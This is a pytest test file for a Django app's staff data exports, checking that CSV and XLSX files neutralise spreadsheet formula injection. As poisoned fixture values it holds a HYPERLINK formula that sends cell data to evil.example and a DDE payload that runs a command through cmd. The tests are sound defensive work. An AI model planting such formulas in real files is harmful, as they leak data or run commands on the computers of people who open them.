"""Exports never carry a live formula: text people typed (names, teams, sites, programs)
stays text when the file is opened in a spreadsheet (OWASP CSV injection)."""

import csv
import io
import zipfile

import pytest

from supervision.exports import csv_text
from tests.factories import StaffFactory, TeamFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1;"click")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-2", "'-2"),
        (DDE, "'" + DDE),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("林晓雯", "林晓雯"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_values_a_spreadsheet_would_evaluate_get_an_apostrophe(value, written):
    assert csv_text(value) == written


@pytest.fixture
def poisoned(org, program):
    supervisor, *_ = org
    team = TeamFactory(site=supervisor.site, name="+前台组")
    supervisor.site.name = "-滨河花园"
    supervisor.site.save()
    program.name = "=认证"
    program.save()
    StaffFactory(name=HYPERLINK, employee_number="=E1", site=supervisor.site, team=team)
    StaffFactory(name=DDE, employee_number="#N/A", site=supervisor.site, team=team)
    return supervisor


def test_the_csv_export_writes_no_formula(client, poisoned):
    client.force_login(poisoned.user)
    data = b"".join(client.get("/supervision/export.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    row = next(r for r in rows if "HYPERLINK" in r[1])
    assert row[:6] == ["'=E1", "'" + HYPERLINK, "'-滨河花园", "'+前台组", "前台", "'=认证"]
    assert next(r for r in rows if "SUM" in r[1])[1] == "'" + DDE
    starts = {cell[:1] for r in rows for cell in r}
    assert not starts & {"=", "+", "-", "@", "\t", "\r"}


def test_the_xlsx_export_writes_every_text_as_a_string_cell(client, poisoned):
    from openpyxl import load_workbook

    client.force_login(poisoned.user)
    data = b"".join(client.get("/supervision/export.xlsx").streaming_content)
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and 't="e"' not in sheet_xml  # no formula, no error cell
    sheet = load_workbook(io.BytesIO(data)).active
    row = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[1].value))
    assert [c.value for c in row[:6]] == ["=E1", HYPERLINK, "-滨河花园", "+前台组", "前台", "=认证"]
    assert all(c.data_type == "s" for c in row[:6])
    error_row = next(r for r in sheet.iter_rows(min_row=2) if "SUM" in str(r[1].value))
    assert (error_row[0].value, error_row[0].data_type) == ("#N/A", "s")
